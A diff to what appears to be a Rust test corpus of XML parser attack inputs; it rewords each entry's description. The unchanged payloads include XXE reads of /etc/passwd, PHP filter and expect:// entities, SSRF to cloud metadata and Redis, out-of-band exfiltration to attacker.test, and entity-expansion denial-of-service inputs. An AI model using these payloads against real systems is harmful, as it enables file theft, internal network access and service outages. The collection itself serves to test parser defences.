@@ -89,12 +89,12 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"any\" \"file:///etc/passwd\">]><foo>&xxe;</foo>",
     ),
     text(
-        "a filter of PHP",
+        "a PHP filter",
         PAYLOADS,
         "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><foo>&xxe;</foo>",
     ),
     text(
-        "a command of PHP",
+        "a PHP command",
         PAYLOADS,
         "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"expect://id\">]><foo>&xxe;</foo>",
     ),
@@ -109,7 +109,7 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"gopher://127.0.0.1:6379/_INFO\">]><foo>&xxe;</foo>",
     ),
     text(
-        "a share of Windows",
+        "a Windows share",
         PAYLOADS,
         "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"\\\\attacker.test\\share\">]><foo>&xxe;</foo>",
     ),
@@ -129,22 +129,22 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE foo [<!ENTITY % x SYSTEM \"data://text/plain;base64,PCFFTlRJVFkgYSAnYic+\"> %x;]><foo/>",
     ),
     text(
-        "metadata of a cloud",
+        "cloud metadata",
         PAYLOADS,
         "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><foo>&xxe;</foo>",
     ),
     text(
-        "a parameter entity of elsewhere",
+        "an external parameter entity",
         PAYLOADS,
         "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://attacker.test/x.dtd\"> %xxe;]><foo/>",
     ),
     text(
-        "out of band by a subset of elsewhere",
+        "out of band through an external subset",
         PAYLOADS,
         "<!DOCTYPE r [<!ENTITY % data SYSTEM \"file:///etc/passwd\"><!ENTITY % dtd SYSTEM \"http://attacker.test/e.dtd\"> %dtd; %all;]><r>&send;</r>",
     ),
     text(
-        "out of band by an error",
+        "out of band through an error",
         PAYLOADS,
         "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#x25; g SYSTEM 'file:///no/%f;'>\"> %e; %g;]><r/>",
     ),
@@ -154,7 +154,7 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE r [<!ENTITY % d SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\"><!ENTITY % ISOamso '<!ENTITY &#x25; f SYSTEM \"file:///etc/passwd\">'> %d;]><r/>",
     ),
     text(
-        "a subset of elsewhere",
+        "an external subset",
         SPAETH,
         "<!DOCTYPE r SYSTEM \"http://attacker.test/r.dtd\"><r/>",
     ),
@@ -164,12 +164,12 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE r PUBLIC \"-//A//B//EN\" \"http://attacker.test/r.dtd\"><r/>",
     ),
     text(
-        "a preset attribute of a namespace",
+        "a default attribute that declares a namespace",
         SPAETH,
         "<!DOCTYPE r [<!ATTLIST r xmlns CDATA \"urn:x\" xmlns:xsi CDATA #FIXED \"http://www.w3.org/2001/XMLSchema-instance\">]><r/>",
     ),
     text(
-        "a preset place of a schema",
+        "a default attribute with a schema location",
         SPAETH,
         "<!DOCTYPE r [<!ATTLIST r xsi:noNamespaceSchemaLocation CDATA \"http://attacker.test/x.xsd\">]><r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"/>",
     ),
@@ -179,12 +179,12 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE r [<!ENTITY x '<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>'>]><r>&x;</r>",
     ),
     text(
-        "a loop of entities",
+        "an entity loop",
         SPAETH,
         "<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><r>&a;</r>",
     ),
     text(
-        "an entity of itself",
+        "an entity that refers to itself",
         MORGAN,
         "<!DOCTYPE r [<!ENTITY a \"x&a;\">]><r>&a;</r>",
     ),
@@ -210,7 +210,7 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE r [<!ENTITY a \"b\"",
     ),
     text(
-        "a document type behind a comment and an instruction",
+        "a document type after a comment and an instruction",
         OWN,
         "<?xml version=\"1.0\"?><!-- a --><?b c?>\r\n<!DOCTYPE r><r/>",
     ),
@@ -220,7 +220,7 @@ pub const SHAPES: &[Shape] = &[
         "<!DOCTYPE s:Envelope SYSTEM \"http://schemas.xmlsoap.org/soap/envelope/\"><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body/></s:Envelope>",
     ),
     text(
-        "a document type behind a mistake",
+        "a document type after a mistake",
         OWN,
         "<?xml version='1.0' a='b'?><!-- c -- d --><!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>",
     ),
@@ -237,7 +237,7 @@ pub const SHAPES: &[Shape] = &[
         Body::Built(|| laughs() + "<lolz a='&l9;'/>"),
     ),
     built(
-        "one long entity, often",
+        "one long entity, used often",
         SULLIVAN,
         Way::Identity,
         Body::Built(|| {
@@ -300,7 +300,7 @@ pub const SHAPES: &[Shape] = &[
         }),
     ),
     built(
-        "half a megabyte of blanks by one byte's name, packed",
+        "half a megabyte of blanks through a one-byte name, packed",
         OWN,
         Way::Response,
         Body::Built(|| {
@@ -310,7 +310,7 @@ pub const SHAPES: &[Shape] = &[
         }),
     ),
     built(
-        "nine megabytes of text by one byte's name",
+        "nine megabytes of text through a one-byte name",
         OWN,
         Way::Identity,
         Body::Built(|| {
@@ -320,7 +320,7 @@ pub const SHAPES: &[Shape] = &[
         }),
     ),
     built(
-        "depth by entities",
+        "depth through entities",
         OWN,
         Way::Identity,
         Body::Built(|| {
@@ -330,7 +330,7 @@ pub const SHAPES: &[Shape] = &[
         }),
     ),
     built(
-        "attributes preset by a hidden list",
+        "default attributes in a hidden list",
         OWN,
         Way::Envelope,
         Body::Built(|| {
@@ -348,7 +348,7 @@ pub const SHAPES: &[Shape] = &[
         }),
     ),
     built(
-        "a document type in UTF-16 the other way round",
+        "a document type in UTF-16 with the other byte order",
         SPAETH,
         Way::Transformed,
         Body::BuiltBytes(|| {
@@ -375,7 +375,7 @@ pub const SHAPES: &[Shape] = &[
         }),
     ),
     built(
-        "a content model nested deeply",
+        "a deeply nested content model",
         CVE,
         Way::Response,
         Body::Built(|| {
